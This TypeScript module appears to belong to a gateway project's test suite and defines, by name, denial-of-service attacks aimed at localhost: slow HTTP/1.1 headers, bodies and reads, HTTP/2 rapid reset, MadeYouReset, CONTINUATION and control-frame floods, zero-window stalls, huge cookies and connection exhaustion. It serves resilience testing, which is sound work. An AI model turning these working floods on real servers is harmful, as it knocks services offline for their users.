/** What attackers do on a connection, by name. */
import type { TLSSocket } from "node:tls";
import { END_HEADERS, END_STREAM, FRAME, frame, headerBlock, PREFACE } from "../../support/http2-frames.ts";
import { DEFAULT_LISTENER_LIMITS } from "../../../src/gateway/index.ts";
import { LARGE_HOST, LARGE_PATH } from "./kinds.ts";

export interface Attack {
  readonly connections: number;
  /** `raw` for TCP without a handshake of TLS, which costs an attacker nothing. */
  readonly protocol: "http/1.1" | "h2" | "raw";
  /** What a connection does once it stands. */
  readonly act: (socket: TLSSocket) => void;
}

const HOST = "Host: localhost\r\n";

/** One byte a second keeps a connection alive for servers that ask only for some progress. */
function drip(socket: TLSSocket, byte: string): void {
  const timer = setInterval(() => socket.write(byte), 1_000);
  socket.once("close", () => clearInterval(timer));
}

/** As fast as the other side takes it. */
function pour(socket: TLSSocket, next: () => Buffer): void {
  const more = (): void => {
    while (!socket.destroyed && socket.write(next()));
  };
  // In a turn of its own: where all is taken at once, an attacker would hear nothing any more, not even that it is over.
  socket.on("drain", () => setImmediate(more));
  more();
}

const REQUEST = headerBlock([
  [":method", "GET"],
  [":scheme", "https"],
  [":path", "/"],
  [":authority", "localhost"],
]);
const LARGE_REQUEST = headerBlock([
  [":method", "GET"],
  [":scheme", "https"],
  [":path", LARGE_PATH],
  [":authority", LARGE_HOST],
]);

/** RFC 9113 section 6.5.2: `SETTINGS_INITIAL_WINDOW_SIZE` 0. */
const NO_WINDOW = Buffer.from([0, 4, 0, 0, 0, 0]);
/** Section 6.9.1: more than a window can be, so that the server has to reset the stream. */
const WINDOW_OVERFLOW = Buffer.from([0x7f, 0xff, 0xff, 0xff]);

const opening = (settings: Buffer = Buffer.alloc(0)): Buffer =>
  Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0, settings)]);

/** Pours requests on streams of their own, each with what ends it at once. */
const pourRequests =
  (ending: (stream: number) => Buffer) =>
  (socket: TLSSocket): void => {
    let stream = 1;
    socket.write(opening());
    pour(socket, () => {
      const frames = [];
      for (let index = 0; index < 100; index++, stream += 2)
        frames.push(frame(FRAME.headers, END_STREAM | END_HEADERS, stream, REQUEST), ending(stream));
      return Buffer.concat(frames);
    });
  };

const pourFrames =
  (next: Buffer, settings?: Buffer) =>
  (socket: TLSSocket): void => {
    socket.write(opening(settings));
    const many = Buffer.concat(Array.from({ length: 200 }, () => next));
    pour(socket, () => many);
  };

const resetWith = (code: number) =>
  pourRequests((stream) => frame(FRAME.rstStream, 0, stream, Buffer.from([0, 0, 0, code])));

export const ATTACKS: Readonly<Record<string, Attack>> = {
  "slow-headers": {
    connections: 1_000,
    protocol: "http/1.1",
    act(socket) {
      socket.write(`GET / HTTP/1.1\r\n${HOST}X-A: `);
      drip(socket, "a");
    },
  },
  "slow-body": {
    connections: 1_000,
    protocol: "http/1.1",
    act(socket) {
      socket.write(`POST / HTTP/1.1\r\n${HOST}Content-Length: 100000\r\n\r\n`);
      drip(socket, "a");
    },
  },
  "slow-large-body": {
    connections: 1_000,
    protocol: "http/1.1",
    act(socket) {
      socket.write(`POST / HTTP/1.1\r\n${HOST}Content-Length: 1000000\r\n\r\n${"a".repeat(200_000)}`);
      drip(socket, "a");
    },
  },
  "slow-read": {
    connections: 500,
    protocol: "http/1.1",
    act(socket) {
      socket.pause();
      socket.write(
        `GET ${LARGE_PATH} HTTP/1.1\r\nHost: ${LARGE_HOST}\r\n\r\n`.repeat(
          1 + DEFAULT_LISTENER_LIMITS.maxPipelinedRequests,
        ),
      );
    },
  },
  "rapid-reset": { connections: 4, protocol: "h2", act: resetWith(8) },
  "rapid-reset-no-error": { connections: 4, protocol: "h2", act: resetWith(0) },
  "made-you-reset": {
    connections: 4,
    protocol: "h2",
    act: pourRequests((stream) => frame(FRAME.windowUpdate, 0, stream, WINDOW_OVERFLOW)),
  },
  continuation: {
    connections: 4,
    protocol: "h2",
    act(socket) {
      socket.write(Buffer.concat([opening(), frame(FRAME.headers, END_STREAM, 1, REQUEST)]));
      const more = frame(FRAME.continuation, 0, 1, headerBlock([["a", "b"]]));
      pour(socket, () => Buffer.concat(Array.from({ length: 200 }, () => more)));
    },
  },
  settings: { connections: 4, protocol: "h2", act: pourFrames(frame(FRAME.settings, 0, 0)) },
  ping: { connections: 4, protocol: "h2", act: pourFrames(frame(FRAME.ping, 0, 0, Buffer.alloc(8))) },
  priority: {
    connections: 4,
    protocol: "h2",
    act: pourFrames(frame(FRAME.priority, 0, 3, Buffer.from([0, 0, 0, 5, 16]))),
  },
  "empty-data": {
    connections: 4,
    protocol: "h2",
    act(socket) {
      const post = headerBlock([
        [":method", "POST"],
        [":scheme", "https"],
        [":path", "/"],
        [":authority", "localhost"],
      ]);
      socket.write(Buffer.concat([opening(), frame(FRAME.headers, END_HEADERS, 1, post)]));
      const many = Buffer.concat(Array.from({ length: 200 }, () => frame(FRAME.data, 0, 1)));
      pour(socket, () => many);
    },
  },
  "zero-window": {
    connections: 200,
    protocol: "h2",
    act(socket) {
      socket.write(opening(NO_WINDOW));
      for (let stream = 1; stream < 200; stream += 2)
        socket.write(frame(FRAME.headers, END_STREAM | END_HEADERS, stream, LARGE_REQUEST));
    },
  },
  cookies: {
    connections: 4,
    protocol: "http/1.1",
    act(socket) {
      socket.write(`GET / HTTP/1.1\r\n${HOST}Cookie: ${"a=1; ".repeat(200_000)}\r\n\r\n`);
    },
  },
  connections: { connections: 10_000, protocol: "http/1.1", act: () => undefined },
  "kept-alive": {
    connections: 10_000,
    protocol: "http/1.1",
    act: (socket) => void socket.write(`GET / HTTP/1.1\r\n${HOST}\r\n`),
  },
  handshakes: { connections: 64, protocol: "raw", act: () => undefined },
};
